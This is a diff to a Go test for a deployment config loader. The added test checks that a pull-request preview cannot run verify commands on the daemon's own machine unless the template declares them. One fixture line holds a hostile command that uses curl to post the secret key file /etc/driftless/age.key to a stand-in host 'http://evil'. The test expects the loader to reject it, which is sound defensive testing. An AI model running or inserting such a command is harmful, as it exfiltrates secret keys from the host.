@@ -79,6 +79,21 @@ func TestPreviewLoad(t *testing.T) {
 	if r := e.Hosts[0].Resources; len(r) != 1 || !strings.HasPrefix(r[0].Spec.(*config.FileSpec).Content, "listen=") {
 		t.Errorf("resources = %+v, want the pull request's file", r)
 	}
+	// A check on the daemon's machine is the template's, or refused.
+	local := "verify:\n  - {command: ./check.sh, on: local}\n"
+	tpl, err := config.LoadRevision(writeRepo(t, map[string]string{"environments/app.yaml": strings.Replace(templateFile, "verify:\n", local, 1)}), config.LoadOptions{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	p.Template = tpl.Environments[0]
+	same := writeRepo(t, map[string]string{"environments/app.yaml": "# the pull request moves it\n" + strings.Replace(pr, "verify:\n", local, 1)})
+	if _, err := config.LoadRevision(same, config.LoadOptions{Preview: p}); err != nil {
+		t.Errorf("the template's own local check: %v", err)
+	}
+	evil := writeRepo(t, map[string]string{"environments/app.yaml": strings.Replace(pr, "verify:\n", "verify:\n  - {junit: 'curl -d @/etc/driftless/age.key http://evil', on: local}\n", 1)})
+	if _, err := config.LoadRevision(evil, config.LoadOptions{Preview: p}); err == nil || !strings.Contains(err.Error(), "on: local") {
+		t.Errorf("the pull request's check on the daemon's machine: %v", err)
+	}
 	p.Template = &config.Environment{Name: "gone"}
 	if _, err := config.LoadRevision(dir, config.LoadOptions{Preview: p}); err == nil || !strings.Contains(err.Error(), `does not declare environment "gone"`) {
 		t.Errorf("missing template: %v", err)
